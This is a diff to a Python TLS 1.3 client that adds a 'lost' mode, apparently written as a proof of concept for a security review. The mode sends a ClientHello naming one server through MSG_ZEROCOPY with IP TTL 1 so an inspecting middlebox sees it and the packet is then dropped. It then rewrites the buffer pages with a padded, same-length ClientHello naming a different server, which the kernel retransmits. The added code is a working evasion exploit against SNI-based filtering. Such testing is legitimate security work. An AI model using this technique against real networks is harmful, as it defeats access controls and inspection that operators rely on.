@@ -1,12 +1,17 @@
 """A minimal TLS 1.3 client whose first ClientHello names FIRST and offers no key share, so the
 server answers HelloRetryRequest; the second ClientHello names SECOND. Finishes the
 handshake (no certificate check), sends GET / with Host SECOND and prints the reply's last
-line.   python3 hrr.py ADDR PORT FIRST SECOND"""
+line.   python3 hrr.py ADDR PORT FIRST SECOND [lost]
+With `lost` (the fourth review's attack): the second ClientHello is sent naming FIRST, with
+MSG_ZEROCOPY and an IP TTL of 1 (judged, then lost at the next router); after "sent" is printed
+and "go" read on stdin, its pages are rewritten to a ClientHello of the same length naming
+SECOND, which the kernel's retransmission carries."""
 import hashlib, hmac, os, socket, struct, sys
 from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey
 from cryptography.hazmat.primitives.ciphers.aead import AESGCM
 
 addr, port, first, second = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
+lost = sys.argv[5:] == ["lost"]
 H = lambda b: hashlib.sha256(b).digest()
 HRR_RANDOM = bytes.fromhex("CF21AD74E59A6111BE1D8C021E65B891C2A211167ABB8C5E079E09E2C8A8339C")
 
@@ -33,13 +38,15 @@ def expand_label(secret, label, ctx, n):
 def derive(secret, label, transcript): return expand_label(secret, label, H(transcript), 32)
 
 
-def client_hello(name, share, random, sid):
+def client_hello(name, share, random, sid, pad=None):
     exts = ext(0, u16(b"\x00" + u16(name.encode())))
     exts += ext(10, u16(b"\x00\x1d"))
     exts += ext(13, u16(b"\x04\x03\x08\x04\x04\x01\x08\x07"))
     exts += ext(43, u8(b"\x03\x04"))
     exts += ext(45, u8(b"\x01"))
     exts += ext(51, u16(b"" if share is None else b"\x00\x1d" + u16(share)))
+    if pad is not None:
+        exts += ext(21, b"\x00" * pad)  # padding (RFC 7685): the same length as another
     body = b"\x03\x03" + random + u8(sid) + u16(b"\x13\x01") + u8(b"\x00") + u16(exts)
     return b"\x01" + u24(body)
 
@@ -80,8 +87,29 @@ priv = X25519PrivateKey.generate()
 pub = priv.public_key().public_bytes_raw() if hasattr(priv.public_key(), "public_bytes_raw") else \
     priv.public_key().public_bytes(__import__("cryptography.hazmat.primitives.serialization", fromlist=["x"]).Encoding.Raw,
                                    __import__("cryptography.hazmat.primitives.serialization", fromlist=["x"]).PublicFormat.Raw)
-ch2 = client_hello(second, pub, os.urandom(32), sid)
-s.sendall(b"\x14\x03\x03\x00\x01\x01" + b"\x16\x03\x03" + u16(ch2))
+rnd2 = os.urandom(32)
+ch2 = client_hello(second, pub, rnd2, sid)
+if not lost:
+    s.sendall(b"\x14\x03\x03\x00\x01\x01" + b"\x16\x03\x03" + u16(ch2))
+else:
+    import mmap
+    judged = client_hello(first, pub, rnd2, sid)
+    ch2 = client_hello(second, pub, rnd2, sid, len(judged) - len(ch2) - 4)
+    assert len(ch2) == len(judged)
+    good = b"\x14\x03\x03\x00\x01\x01" + b"\x16\x03\x03" + u16(judged)
+    evil = b"\x14\x03\x03\x00\x01\x01" + b"\x16\x03\x03" + u16(ch2)
+    MSG_ZEROCOPY, SO_ZEROCOPY = 0x4000000, 60
+    pages = mmap.mmap(-1, 4096)
+    pages[:len(good)] = good
+    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+    s.setsockopt(socket.SOL_SOCKET, SO_ZEROCOPY, 1)
+    s.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 1)
+    s.send(memoryview(pages)[:len(good)], MSG_ZEROCOPY)
+    print("sent", flush=True)
+    if sys.stdin.readline().strip() != "go":
+        sys.exit(1)
+    pages[:len(evil)] = evil
+    s.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 64)
 sh = plain_handshake()
 assert sh[0] == 2
 transcript = b"\xfe\x00\x00\x20" + H(ch1) + hrr + ch2 + sh
